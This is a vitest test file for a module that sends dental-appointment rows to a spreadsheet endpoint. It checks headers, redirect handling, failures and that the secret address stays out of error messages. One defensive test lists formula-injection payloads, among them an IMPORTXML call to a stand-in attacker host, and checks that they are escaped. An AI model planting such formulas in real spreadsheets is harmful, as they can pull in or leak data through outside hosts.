import { expect, test } from 'vitest';
import { sheetMessage } from '#tests/support/providers/outbox.ts';
import {
  accepts,
  hangs,
  redirects,
  refuses,
  resetsAfterAcceptance,
  sheetEndpoint,
} from '#tests/support/providers/sheet-endpoint.ts';
import type { ClaimedMessage } from '../outbox/claims-store.server.ts';
import type { SheetRow } from '../outbox/sheet-row.ts';
import { sheetSender } from './send-to-sheet.server.ts';

const row = sheetMessage.payload as SheetRow;
const send = (url: string, payload = row, timeout = 10_000) =>
  sheetSender(url, timeout).send({ payload } as ClaimedMessage<'sheet'>);

test('a row is posted as text/plain with the five keys of the specification', async () => {
  const { url, requests } = await sheetEndpoint(accepts);
  expect(await send(url)).toEqual({ outcome: 'sent' });
  const [{ method, path, headers, body }] = requests as [(typeof requests)[0]];
  expect([method, path, headers['content-type']]).toEqual(['POST', '/exec', 'text/plain']);
  expect(Object.entries(JSON.parse(body))).toEqual([
    ['patient', 'Asha Patil'],
    ['mobile', '9812345210'],
    ['service', 'Restorative Dentistry - Root Canal Treatment'],
    ['dateTime', 'Monday, November 23, 2026 at 10:00 AM'],
    ['message', 'दाँत में दर्द 😬'],
  ]);
});

test('a visitor’s text never runs as a formula in the spreadsheet, and the keys stay the five', async () => {
  const { url, requests } = await sheetEndpoint(accepts);
  const formulas = ['=IMPORTXML("https://evil.example")', '+1+1', '-2+3', '@SUM(1)', '\t=1+1', '＝1+1'];
  for (const formula of formulas)
    await send(url, { ...row, patient: formula, service: formula, message: formula });
  const cells = requests.map(({ body }) => JSON.parse(body) as SheetRow);
  expect(cells).toEqual(
    formulas.map((formula) => ({
      ...row,
      patient: `'${formula}`,
      service: `'${formula}`,
      message: `'${formula}`,
    })),
  );
  expect(cells.map((cell) => Object.keys(cell).join())).toEqual(
    formulas.map(() => 'patient,mobile,service,dateTime,message'),
  );
});

test('a row of another event says so, where the sheet wants to hear of it', async () => {
  const { url, requests } = await sheetEndpoint(accepts);
  await send(url, { ...row, event: 'moved', reference: 'K7PQ2M' });
  expect(JSON.parse(requests[0]!.body)).toEqual({ ...row, event: 'moved', reference: 'K7PQ2M' });
});

test('a redirect is followed to where the script’s output is, without posting twice', async () => {
  const { url, requests } = await sheetEndpoint(redirects);
  expect(await send(url)).toEqual({ outcome: 'sent' });
  expect(requests.map(({ method, path }) => `${method} ${path}`)).toEqual(['POST /exec', 'GET /output']);
});

test.each([
  ['refuses', refuses, 'the sheet answered 503'],
  ['hangs', hangs, 'the sheet did not answer within 300 ms'],
  ['resets the connection', resetsAfterAcceptance, 'the connection to the sheet broke: ECONNRESET'],
])('a sheet that %s is a failure with a reason', async (_what, answer, reason) => {
  const { url } = await sheetEndpoint(answer);
  expect(await send(url, row, 300)).toEqual({ outcome: 'failed', reason });
});

test('the reason never holds the address, which is a secret', async () => {
  const outcome = await send('http://127.0.0.1:1/secret-path');
  expect(outcome).toEqual({
    outcome: 'failed',
    reason: expect.stringMatching(/^the connection to the sheet broke/),
  });
  expect(JSON.stringify(outcome)).not.toContain('secret');
});
